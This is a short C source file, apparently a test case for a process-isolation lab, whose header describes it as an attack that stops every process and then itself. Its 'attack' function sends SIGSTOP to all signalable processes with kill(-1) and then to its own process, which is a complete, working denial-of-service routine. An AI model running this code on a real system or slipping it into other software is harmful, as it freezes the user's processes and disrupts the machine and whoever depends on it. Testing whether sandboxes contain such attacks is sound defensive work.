/* Attack: stops every process there is, then itself.
 * Labs: 02
 * Isolated: yes */
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

static void attack(void)
{
    syscall(SYS_kill, -1, SIGSTOP);
    syscall(SYS_kill, getpid(), SIGSTOP);
}
